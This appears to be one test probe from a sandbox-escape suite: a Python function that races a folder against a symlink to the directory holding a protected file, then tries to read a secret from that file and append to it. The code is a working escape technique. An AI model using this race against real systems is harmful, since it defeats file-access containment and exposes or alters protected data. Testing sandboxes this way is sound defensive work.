"""Swap a folder for a link while files below it are opened."""

META = {"group": "files", "seen": "write:"}


def attack():
    import threading, time
    home = os.path.dirname(T["secret_file"])
    os.mkdir("there")
    open("there/" + os.path.basename(T["secret_file"]), "w").close()
    os.symlink(home, "link")
    done = []
    def swap():
        while not done:
            for one, other in (("there", "aside"), ("link", "there"), ("there", "link"), ("aside", "there")):
                try:
                    os.rename(one, other)
                except OSError:
                    pass
    threading.Thread(target=swap, daemon=True).start()
    end = time.time() + 0.5
    name = "there/" + os.path.basename(T["secret_file"])
    while time.time() < end:
        try:
            if T["secret"] in open(name).read():
                return "ESCAPED: the swap won"
            open(name, "a").write("x")
        except OSError:
            pass
    done.append(1)
    return "contained"
